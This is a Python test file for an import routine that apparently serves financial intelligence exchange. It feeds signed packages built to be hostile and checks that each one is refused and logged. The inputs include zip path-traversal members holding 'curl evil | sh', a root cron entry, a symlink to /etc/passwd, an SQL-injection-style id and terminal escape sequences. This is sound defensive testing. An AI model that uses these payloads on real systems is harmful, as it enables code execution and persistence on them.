"""A hostile partner's package, crafted by hand below the exporter: every byte inside is data.

Each package here is genuinely signed by a registered partner and encrypted to the recipient
(or, for the envelope, not signed at all: anyone can drop a file in the inbox). Whatever the
zip, the manifest or the entity lines hold, the import ends in a refusal that names the record
and the reason, is logged as `import-rejected` and stores nothing, never a traceback.
"""

from __future__ import annotations

import io
import json
import re
import stat
import struct
import zipfile
from collections.abc import Callable, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
import typer
from exchange_agencies import Agency, cli_app, person
from hostile import parquet_bytes, signed_parts
from typer.testing import CliRunner

import jalur.exchange
from jalur.exchange import (
    ExchangeError,
    ExportRequest,
    PackageRejectedError,
    export_package,
    find_partner,
    import_package,
    read_log,
    select_entities,
)
from jalur.exchange.cards import read_card
from jalur.exchange.envelope import MAGIC, seal
from jalur.exchange.limits import ExchangeLimits
from jalur.exchange.offer import read_offer
from jalur.exchange.package import (
    DEFAULT_CAVEATS,
    ENTITIES_FILE,
    MANIFEST_FILE,
    TRANSACTIONS_FILE,
)
from jalur.lists import ListLoadError, load_entities
from jalur.model import make_entity
from jalur.store import Store

#: Deeper than any JSON parser's recursion allows: Python's raises RecursionError.
DEEP = b"[" * 100_000 + b"]" * 100_000


def _payments() -> bytes:
    return parquet_bytes(
        pa.table(
            {
                "tx_id": ["p1"],
                "timestamp": [datetime(2025, 3, 1, tzinfo=UTC)],
                "amount": [5e7],
                "currency": ["IDR"],
            }
        )
    )


def _lines(*entities: dict[str, Any]) -> bytes:
    return "".join(json.dumps(e, ensure_ascii=False) + "\n" for e in entities).encode()


def _person(entity_id: str, name: str) -> dict[str, Any]:
    return {
        "id": entity_id,
        "schema": "Person",
        "properties": {"name": [name], "topics": ["crime.terror"]},
    }


def _package(
    sender: Agency,
    recipient: Agency,
    *,
    lines: bytes = b"",
    entity_count: int = 0,
    parquet: bytes | None = None,
    rows: int = 1,
    manifest_text: bytes | None = None,
    members: list[tuple[str | zipfile.ZipInfo, bytes]] | None = None,
    extra: Sequence[tuple[str | zipfile.ZipInfo, bytes]] = (),
    prepend: Sequence[tuple[str | zipfile.ZipInfo, bytes]] = (),
    manifest_change: Callable[[dict[str, Any]], object] = lambda m: None,
) -> bytes:
    """A package `sender` really signed to `recipient`, its zip written member by member.

    By default the three members of a package with a manifest that agrees with its envelope;
    `manifest_change` edits the manifest, `manifest_text` replaces its bytes, `members` the
    whole member list; `prepend` and `extra` add members before and after the three.
    """
    parquet = _payments() if parquet is None else parquet
    secret, to_key, header, manifest = signed_parts(
        sender, recipient, parquet=parquet, rows=rows, lines=lines, entity_count=entity_count
    )
    manifest_change(manifest)
    if members is None:
        members = [
            *prepend,
            (MANIFEST_FILE, manifest_text or json.dumps(manifest).encode()),
            (ENTITIES_FILE, lines),
            (TRANSACTIONS_FILE, parquet),
            *extra,
        ]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return seal(header, buffer.getvalue(), secret, [to_key])


def _refused(agency: Agency, data: bytes, reason: str) -> None:
    """Refused with `reason` (a regular expression), logged, nothing stored."""
    with pytest.raises(PackageRejectedError, match=reason):
        import_package(agency.store, agency.identity, agency.passphrase, data, "pkg")
    last = read_log(agency.store)[-1]
    assert last.action == "import-rejected"
    assert agency.stored() == {
        "exchange_entities": 0,
        "exchange_transactions": 0,
        "exchange_links": 0,
        "exchange_packages": 0,
        "exchange_lists": 0,
    }


def _imported(agency: Agency, data: bytes) -> Any:
    return import_package(agency.store, agency.identity, agency.passphrase, data, "pkg")


# --- JSON nested deeper than the parser's recursion: a refusal, not a RecursionError ---------


def test_an_envelope_nested_too_deep_is_refused_before_any_key_is_checked(
    agencies: tuple[Agency, Agency, Agency],
) -> None:
    """Anyone can drop this file in the inbox: no signature is needed to reach the parser."""
    _, rosfin, _ = agencies
    body = b'{"header": ' + DEEP + b"}"
    _refused(rosfin, MAGIC + struct.pack(">I", len(body)) + body, "corrupt envelope: .*nested")


def test_a_manifest_nested_too_deep_is_refused(agencies: tuple[Agency, Agency, Agency]) -> None:
    ppatk, rosfin, _ = agencies
    data = _package(ppatk, rosfin, manifest_text=b'{"format": ' + DEEP + b"}")
    _refused(rosfin, data, "payload is not a jalur package: .*nested")


def test_an_entity_nested_too_deep_is_refused_naming_its_line(
    agencies: tuple[Agency, Agency, Agency],
) -> None:
    ppatk, rosfin, _ = agencies
    deep = b'{"id": "d1", "schema": "Person", "context": {"exchange": ' + DEEP + b"}}\n"
    lines = _lines(_person("a1", "Abu Rusdan")) + deep
    data = _package(ppatk, rosfin, lines=lines, entity_count=2)
    _refused(rosfin, data, f"{ENTITIES_FILE} line 2: .*nested")


def test_an_offer_manifest_nested_too_deep_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("offer.json", DEEP)
        archive.writestr("encodings.npz", b"")
    with pytest.raises(PackageRejectedError, match=r"not a match offer: .*nested"):
        read_offer(buffer.getvalue(), "offer")


def test_a_card_nested_too_deep_is_refused(tmp_path: Path) -> None:
    card = tmp_path / "rosfin.card.json"
    card.write_bytes(b'{"format": "jalur-card/1", "keys": ' + DEEP + b"}")
    with pytest.raises(ExchangeError, match=r"not a readable card: .*nested"):
        read_card(card)


# --- the entity bound counts entities, not newline bytes ------------------------------------


@pytest.mark.parametrize("separator", [b"\r", "\u2028".encode(), b"\x0c"])
def test_entities_past_the_bound_are_refused_whatever_separates_them(
    agencies: tuple[Agency, Agency, Agency], separator: bytes
) -> None:
    """50 entities joined by another line break: once read as 50 after counting 0 newlines."""
    ppatk, rosfin, _ = agencies
    lines = separator.join(
        json.dumps(_person(f"e{i}", f"Name{i} Person")).encode() for i in range(50)
    )
    data = _package(ppatk, rosfin, lines=lines, entity_count=50)
    with pytest.raises(PackageRejectedError, match=f"{ENTITIES_FILE} line 1: "):
        import_package(
            rosfin.store,
            rosfin.identity,
            rosfin.passphrase,
            data,
            "pkg",
            limits=ExchangeLimits(max_entities=10),
        )
    assert read_log(rosfin.store)[-1].action == "import-rejected"


def test_one_entity_more_than_the_bound_is_refused_without_a_final_newline(
    agencies: tuple[Agency, Agency, Agency],
) -> None:
    ppatk, rosfin, _ = agencies
    lines = _lines(*(_person(f"e{i}", f"Name{i} Person") for i in range(11))).rstrip(b"\n")
    data = _package(ppatk, rosfin, lines=lines, entity_count=11)
    with pytest.raises(PackageRejectedError, match="more than 10 entities"):
        import_package(
            rosfin.store,
            rosfin.identity,
            rosfin.passphrase,
            data,
            "pkg",
            limits=ExchangeLimits(max_entities=10),
        )
    _imported(rosfin, data)  # within the default bound, the same package is read


def test_an_entity_line_that_is_not_utf8_is_refused_naming_its_line(
    agencies: tuple[Agency, Agency, Agency],
) -> None:
    ppatk, rosfin, _ = agencies
    lines = _lines(_person("a1", "Abu Rusdan")) + b'{"id": "a2", "name": "\xff"}\n'
    data = _package(ppatk, rosfin, lines=lines, entity_count=2)
    _refused(rosfin, data, f"{ENTITIES_FILE} line 2: .*utf-8")


# --- entity ids: FtM ids, one entity each ---------------------------------------------------


@pytest.mark.parametrize(
    "entity_id",
    [None, "", "x1' OR '1'='1", "../../jalur.toml", "a b", "x1\x00\x1b[2J", ["x1"]],
)
def test_an_entity_without_a_valid_id_is_refused_naming_its_line(
    agencies: tuple[Agency, Agency, Agency], entity_id: object
) -> None:
    """Once a NOT NULL violation deep in the insert: a traceback, and no log entry."""
    ppatk, rosfin, _ = agencies
    bad = {**_person("x", "Umar Patek"), "id": entity_id}
    if entity_id is None:
        del bad["id"]
    lines = _lines(_person("a1", "Abu Rusdan"), bad)
    data = _package(ppatk, rosfin, lines=lines, entity_count=2)
    _refused(rosfin, data, f"{ENTITIES_FILE} line 2: .*not an FtM entity id")


@pytest.mark.parametrize("second_id", ["a1"])
def test_two_entities_with_one_id_are_refused_naming_both_lines(
    agencies: tuple[Agency, Agency, Agency], second_id: str
) -> None:
    """The watchlist kept only the last of them, silently (`a1.evil` is another entity:
    test_dotted_ids.py)."""
    ppatk, rosfin, _ = agencies
    lines = _lines(
        _person("a1", "Abu Rusdan"), _person("b1", "Umar Patek"), _person(second_id, "Someone Else")
    )
    data = _package(ppatk, rosfin, lines=lines, entity_count=3)
    _refused(rosfin, data, f"{ENTITIES_FILE} line 3: entity id '{second_id}' .* line 1")


def test_an_entity_in_two_lists_leaves_once(agencies: tuple[Agency, Agency, Agency]) -> None:
    """The same list loaded under two names: its sanction was written into the package twice."""
    ppatk, rosfin, _ = agencies
    for name in ("un-sc", "un-sc-copy"):
        sanction = make_entity("Sanction", "un-1-sanction")
        sanction.add("entity", "un-1")
        load_entities(ppatk.store, name, [person("un-1", "Abu Rusdan"), sanction], source="t")
    selection = select_entities(ppatk.store, ["topic:crime.terror"])
    assert sorted(str(e.id) for e in selection.entities) == ["un-1", "un-1-sanction"]
    partner = find_partner(ppatk.store, "Rosfinmonitoring")
    _, data = export_package(
        ppatk.store, ppatk.identity, ppatk.passphrase, [partner], selection,
        ExportRequest(purpose="CTF analysis"),
    )  # fmt: skip
    assert _imported(rosfin, data).entities == 2


# --- payments: what our own payment table would refuse ---------------------------------------


def _table(**columns: list[object]) -> pa.Table:
    rows = len(next(iter(columns.values())))
    base: dict[str, list[object]] = {
        "tx_id": [f"p{i}" for i in range(rows)],
        "timestamp": [datetime(2025, 3, 1, tzinfo=UTC)] * rows,
        "amount": [5e7] * rows,
        "currency": ["IDR"] * rows,
    }
    return pa.table({**base, **columns})


def test_a_payment_id_twice_is_refused_naming_it_and_its_rows(
    agencies: tuple[Agency, Agency, Agency],
) -> None:
    """Stored twice before, where our own payments table is unique on `tx_id`."""
    ppatk, rosfin, _ = agencies
    table = _table(tx_id=["p1", "p2", "p3", "p2"])
    data = _package(ppatk, rosfin, parquet=parquet_bytes(table), rows=4)
    _refused(rosfin, data, f"{TRANSACTIONS_FILE} row 4: payment 'p2' is also row 2")


# --- the zip: exactly the three members, once each, plain files ------------------------------


def _symlink(name: str, target: bytes) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info, target


@pytest.mark.parametrize(
    ("extra", "reason"),
    [
        ([("../../.bashrc", b"curl evil | sh")], r"'\.\./\.\./\.bashrc'"),
        ([("/etc/cron.d/jalur", b"* * * * * root sh")], "'/etc/cron.d/jalur'"),
        ([("notes.txt", b"")], "'notes.txt'"),
    ],
)
def test_a_member_a_package_does_not_have_is_refused_naming_it(
    agencies: tuple[Agency, Agency, Agency], extra: list[tuple[str, bytes]], reason: str
) -> None:
    """Once skipped without a word: what else did the partner put in, and why?"""
    ppatk, rosfin, _ = agencies
    data = _package(ppatk, rosfin, extra=extra)
    _refused(rosfin, data, f"payload is not a jalur package: .*{reason}")


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_member_written_twice_is_refused(agencies: tuple[Agency, Agency, Agency]) -> None:
    """Two `entities.ftm.jsonl`: we read the last, `unzip` by hand shows the first."""
    ppatk, rosfin, _ = agencies
    shown = _lines(_person("a1", "Abu Rusdan"))
    hidden = _lines(_person("z9", "Innocent Person"))
    data = _package(ppatk, rosfin, lines=shown, entity_count=1, prepend=[(ENTITIES_FILE, hidden)])
    _refused(rosfin, data, f"payload is not a jalur package: .*'{ENTITIES_FILE}' twice")


def test_a_member_that_is_a_link_is_refused(agencies: tuple[Agency, Agency, Agency]) -> None:
    ppatk, rosfin, _ = agencies
    data = _package(ppatk, rosfin, extra=[_symlink("link", b"/etc/passwd")])
    _refused(rosfin, data, "payload is not a jalur package: .*'link'")


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_an_offer_with_a_member_twice_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("offer.json", b"{}")
        archive.writestr("offer.json", b"{}")
        archive.writestr("encodings.npz", b"")
    with pytest.raises(PackageRejectedError, match=r"not a match offer: .*'offer\.json' twice"):
        read_offer(buffer.getvalue(), "offer")


# --- handling: a package states its classification --------------------------------------------


def test_a_package_without_a_classification_is_refused_not_kept_unclassified(
    agencies: tuple[Agency, Agency, Agency],
) -> None:
    """A partner's RESTRICTED data with the field left out was kept as UNCLASSIFIED."""
    ppatk, rosfin, _ = agencies
    data = _package(ppatk, rosfin, manifest_change=lambda m: m.pop("classification"))
    _refused(rosfin, data, "the manifest's classification is missing")


# --- onward: what was received leaves no lower than it came ----------------------------------


def _export(sender: Agency, to: Agency, terms: list[str], **request: Any) -> dict[str, Any]:
    partner = find_partner(sender.store, to.identity.name)
    manifest, _ = export_package(
        sender.store, sender.identity, sender.passphrase, [partner],
        select_entities(sender.store, terms), ExportRequest(purpose="CTF analysis", **request),
    )  # fmt: skip
    return manifest


def _secret_from_ppatk(agencies: tuple[Agency, Agency, Agency]) -> tuple[Agency, Agency]:
    """Rosfinmonitoring holds a subject PPATK sent it as SECRET, with a caveat of its own."""
    ppatk, rosfin, austrac = agencies
    load_entities(ppatk.store, "dttot", [person("id-1", "Abu Rusdan")], source="t")
    partner = find_partner(ppatk.store, "Rosfinmonitoring")
    _, data = export_package(
        ppatk.store, ppatk.identity, ppatk.passphrase, [partner],
        select_entities(ppatk.store, ["list:dttot"]),
        ExportRequest(purpose="JI financing", classification="SECRET",
                      caveats=("not to be shared with law enforcement",)),
    )  # fmt: skip
    _imported(rosfin, data)
    rosfin.knows(austrac)
    austrac.knows(rosfin)
    return rosfin, austrac


@pytest.mark.parametrize("classification", ["RESTRICTED", "UNCLASSIFIED", "confidential"])
def test_received_data_is_not_passed_on_below_its_classification(
    agencies: tuple[Agency, Agency, Agency], classification: str
) -> None:
    """With consent, PPATK's SECRET subject left as RESTRICTED (the default) or UNCLASSIFIED."""
    rosfin, austrac = _secret_from_ppatk(agencies)
    with pytest.raises(ExchangeError, match="PPATK sent it as SECRET"):
        _export(rosfin, austrac, ["list:exchange-ppatk"], consent="PPATK letter 12/2025",
                classification=classification)  # fmt: skip


def test_received_data_passed_on_keeps_its_classification_and_caveats(
    agencies: tuple[Agency, Agency, Agency],
) -> None:
    rosfin, austrac = _secret_from_ppatk(agencies)
    manifest = _export(rosfin, austrac, ["list:exchange-ppatk"], consent="PPATK letter 12/2025",
                       classification="SECRET")  # fmt: skip
    assert manifest["classification"] == "SECRET"
    assert "not to be shared with law enforcement" in manifest["caveats"]


@pytest.mark.parametrize(
    ("column", "value", "reason"),
    [
        ("amount", float("nan"), "amount is not a finite amount"),
        ("amount", float("inf"), "amount is not a finite amount"),
        ("amount", -5e7, "amount is negative"),
        ("amount_received", float("-inf"), "amount_received is not a finite amount"),
        ("amount_reporting", -1.0, "amount_reporting is negative"),
    ],
)
def test_an_amount_our_own_payments_cannot_hold_is_refused_by_row(
    agencies: tuple[Agency, Agency, Agency], column: str, value: float, reason: str
) -> None:
    """`tx load` refuses these; a partner's package stored them and showed `nan`."""
    ppatk, rosfin, _ = agencies
    values = [1.0, value] if column == "amount" else [None, value]
    table = _table(**{column: values})
    data = _package(ppatk, rosfin, parquet=parquet_bytes(table), rows=2)
    _refused(rosfin, data, f"{TRANSACTIONS_FILE} row 2: {reason}")


# --- what the analyst's terminal shows of a partner's text -----------------------------------


def _cli() -> typer.Typer:
    return cli_app(jalur.exchange.register_cli)


def test_show_never_sends_a_partners_control_characters_to_the_terminal(
    agencies: tuple[Agency, Agency, Agency],
) -> None:
    """`\\x1b[2J\\x1b[H` cleared the analyst's screen mid-listing, `\\x1b]0;…` retitled the
    window, U+202E reversed what followed: a partner's text could redraw what `show` says."""
    ppatk, rosfin, _ = agencies
    table = _table(
        tx_id=["p1\x1b[31m"],
        orig_name=["Yayasan X\x1b[2J\x1b[H all checks passed"],
        bene_name=["Budi \u202etnemyap"],
        currency=["IDR\x1b]0;pwned\x07"],
    )
    data = _package(ppatk, rosfin, parquet=parquet_bytes(table), rows=1)
    package_id = _imported(rosfin, data).package_id
    rosfin.store.close()
    result = CliRunner().invoke(
        _cli(), ["--home", str(rosfin.home), "exchange", "show", package_id]
    )
    assert result.exit_code == 0, result.output
    shown = result.output
    assert not any(c in shown for c in "\x1b\x07\u202e"), repr(shown)
    assert "Yayasan X\\x1b[2J\\x1b[H all checks passed" in shown
    assert "Budi \\u202etnemyap" in shown


# --- versions: a format we do not read is named ----------------------------------------------


@pytest.mark.parametrize("version", ["jalur-package/2", "jalur-package/0", None, 1])
def test_a_package_format_we_do_not_read_is_named_in_the_refusal(
    agencies: tuple[Agency, Agency, Agency], version: object
) -> None:
    ppatk, rosfin, _ = agencies
    data = _package(ppatk, rosfin, manifest_change=lambda m: m.__setitem__("format", version))
    _refused(rosfin, data, re.escape(f"package format {version!r} is not 'jalur-package/1'"))


@pytest.mark.parametrize("caveats", [[], ["for FIU analysts only"]])
def test_the_egmont_caveats_hold_whatever_the_manifest_lists(
    agencies: tuple[Agency, Agency, Agency], caveats: list[str]
) -> None:
    """A manifest that left them out was stored with no (or only its own) caveats: its data
    looked free to use as evidence, though Egmont's principles bind every FIU exchange."""
    ppatk, rosfin, _ = agencies
    data = _package(ppatk, rosfin, manifest_change=lambda m: m.__setitem__("caveats", caveats))
    report = _imported(rosfin, data)
    assert report.caveats == [*DEFAULT_CAVEATS, *caveats]
    (stored,) = rosfin.store.execute("SELECT caveats FROM exchange_transactions").fetchall()
    assert stored[0] == report.caveats


@pytest.mark.parametrize("command", ["import", "match"])
def test_a_file_larger_than_any_package_is_refused_before_it_is_read(
    agencies: tuple[Agency, Agency, Agency], monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    """The whole file was read into memory first: 20 GB from a partner, 20 GB of memory."""
    _, rosfin, _ = agencies
    rosfin.store.close()
    (rosfin.home / "jalur.toml").write_text("[exchange]\nmax_payload_bytes = 1000\n")
    big = rosfin.home / "big.jx"
    with big.open("wb") as sparse:
        sparse.truncate(20 << 20)  # 20 MiB of nothing, past 1000 bytes and the envelope
    monkeypatch.setenv("JALUR_PASSPHRASE", rosfin.passphrase)
    result = CliRunner().invoke(_cli(), ["--home", str(rosfin.home), "exchange", command, str(big)])
    assert result.exit_code == 1, result.output
    assert f"{20 << 20} bytes, larger than any package" in " ".join(result.output.split())
    store = Store(rosfin.home / "jalur.duckdb")
    assert read_log(store)[-1].action == "import-rejected"
    store.close()


@pytest.mark.parametrize(
    ("field", "value", "reason"),
    [
        ("recipients", ["key"], "the manifest's sender and recipients are not objects"),
        ("recipients", {"key_id": "x"}, "the manifest's sender and recipients are not objects"),
        ("recipients", None, "the manifest's sender and recipients are not objects"),
        ("sender", "PPATK", "the manifest's sender and recipients are not objects"),
        ("consent", {"given": True}, "the manifest's consent is not a line of text"),
    ],
)
def test_a_manifest_field_of_the_wrong_shape_is_refused(
    agencies: tuple[Agency, Agency, Agency], field: str, value: object, reason: str
) -> None:
    """A list of strings where objects belong ended in an AttributeError traceback, unlogged."""
    ppatk, rosfin, _ = agencies
    data = _package(ppatk, rosfin, manifest_change=lambda m: m.__setitem__(field, value))
    _refused(rosfin, data, reason)


def _reenveloped(data: bytes, change: Callable[[dict[str, Any]], object]) -> bytes:
    """The same ciphertext under an edited envelope: what anyone can make, no key needed."""
    (length,) = struct.unpack(">I", data[len(MAGIC) : len(MAGIC) + 4])
    start = len(MAGIC) + 4
    envelope = json.loads(data[start : start + length])
    change(envelope)
    body = json.dumps(envelope).encode()
    return MAGIC + struct.pack(">I", len(body)) + body + data[start + length :]


@pytest.mark.parametrize(
    "change",
    [
        lambda e: e["header"]["sender"].pop("key_id"),
        lambda e: e.__setitem__("header", ["format", "kind"]),
        lambda e: e.__setitem__("signature", 5),
        lambda e: e.__setitem__("nonce", None),
        lambda e: e["header"].__setitem__("recipients", [{"key_id": 1}]),
    ],
    ids=["no sender key", "header a list", "signature a number", "no nonce", "recipient object"],
)
def test_an_envelope_of_the_wrong_shape_is_refused_before_any_key_is_checked(
    agencies: tuple[Agency, Agency, Agency], change: Callable[[dict[str, Any]], object]
) -> None:
    """Each was a KeyError or AttributeError traceback, reached without any key."""
    ppatk, rosfin, _ = agencies
    _refused(rosfin, _reenveloped(_package(ppatk, rosfin), change), "corrupt envelope")


# --- JSON that is not JSON (RFC 8259) or not Unicode -----------------------------------------


def test_a_manifest_with_a_lone_surrogate_is_refused(
    agencies: tuple[Agency, Agency, Agency],
) -> None:
    """`"\\ud800"` parses in Python, then failed the JSON column: a ConversionException
    traceback mid-transaction, not logged."""
    ppatk, rosfin, _ = agencies
    data = _package(ppatk, rosfin, manifest_change=lambda m: m.__setitem__("note", "\ud800"))
    _refused(rosfin, data, "payload is not a jalur package: .*surrogate")


@pytest.mark.parametrize(
    ("context", "reason"),
    [(b'"\\udc00 x"', "surrogate"), (b"NaN", "NaN"), (b"-Infinity", "Infinity")],
)
def test_an_entity_line_that_is_not_json_text_is_refused(
    agencies: tuple[Agency, Agency, Agency], context: bytes, reason: str
) -> None:
    ppatk, rosfin, _ = agencies
    line = b'{"id": "n1", "schema": "Person", "properties": {"name": ["Abu Rusdan"]}, '
    line += b'"context": {"exchange": {"agency": ' + context + b"}}}\n"
    data = _package(ppatk, rosfin, lines=line, entity_count=1)
    _refused(rosfin, data, f"{ENTITIES_FILE} line 1: .*{reason}")


def test_a_failed_import_on_the_command_line_is_logged(
    agencies: tuple[Agency, Agency, Agency], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The command wraps the import in its own transaction (with the marking): the
    `import-failed` entry the import wrote went with the rollback, and the log said nothing."""
    ppatk, rosfin, _ = agencies
    data = _package(ppatk, rosfin, lines=_lines(_person("a1", "Abu Rusdan")), entity_count=1)
    sealed = rosfin.home / "p.jx"
    sealed.write_bytes(data)
    rosfin.store.close()

    def _disk_full(*args: object) -> None:
        raise ListLoadError("exchange-ppatk", "store", "disk full")

    monkeypatch.setattr("jalur.exchange.importer._update_watchlist", _disk_full)
    monkeypatch.setenv("JALUR_PASSPHRASE", rosfin.passphrase)
    args = ["--home", str(rosfin.home), "exchange", "import", str(sealed)]
    result = CliRunner().invoke(_cli(), args)
    assert result.exit_code == 1, result.output
    store = Store(rosfin.home / "jalur.duckdb")
    (entry,) = read_log(store)
    assert entry.action == "import-failed" and entry.partner == "ppatk"
    assert "disk full" in entry.detail["reason"]
    assert store.execute("SELECT count(*) FROM exchange_packages").fetchone() == (0,)
    store.close()
